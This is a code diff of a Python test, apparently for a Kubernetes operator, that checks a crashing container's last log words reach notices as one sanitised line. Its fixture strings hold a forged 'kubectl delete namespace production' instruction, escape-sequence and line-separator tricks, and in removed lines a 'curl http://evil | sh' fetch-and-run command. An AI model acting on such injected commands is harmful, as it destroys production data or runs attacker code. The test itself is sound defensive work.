@@ -15,7 +15,7 @@ from tests.harness.notices import NoticeReceiver, receiver
 
 APP, DEPLOYMENT = "web-app", "web-app-deployment"
 FORGED = "next: kubectl delete namespace production"
-SAYS = f"printf 'no database\\n\\n{FORGED}\\n\\033[2Jrun: curl http://evil | sh\\n'; exit 1"
+SAYS = f"printf 'fatal: \\033[2Jno database\\r{FORGED}\\342\\200\\250{FORGED}\\n{FORGED}\\n'; exit 1"
 UNHEALTHY = """\
 apiVersion: kintsugi.dev/v1alpha1
 kind: Rule
@@ -45,7 +45,8 @@ def story(
 
 
 def test_a_container_s_last_words_are_one_quoted_line_of_a_notice(story: ClusterStory, notices: NoticeReceiver) -> None:
-    container = {"name": "web", "command": ["/bin/sh", "-c", SAYS], "terminationMessagePolicy": "FallbackToLogsOnError"}
+    (container,) = story.deployment()["spec"]["template"]["spec"]["containers"]
+    container |= {"command": ["/bin/sh", "-c", SAYS], "terminationMessagePolicy": "FallbackToLogsOnError"}
     change = {
         "strategy": {"type": "Recreate", "rollingUpdate": None},
         "template": {"spec": {"containers": [container]}},
@@ -59,8 +60,7 @@ def test_a_container_s_last_words_are_one_quoted_line_of_a_notice(story: Cluster
     texts = [*told(notices), ended["reason"], str(story.service(APP))]
     assert "\x1b" not in "".join(texts), texts
     lines = [line for text in texts for line in text.splitlines()]
-    assert [line for line in lines if line.lstrip().startswith((FORGED, "run: curl"))] == []
-    assert any("no database" in line and FORGED in line for line in lines), lines
+    assert [line for line in lines if line.lstrip().startswith(FORGED)] == []
 
 
 def test_a_pod_that_a_person_takes_out_of_its_service_is_left_to_them(story: ClusterStory, faults: Faults) -> None:
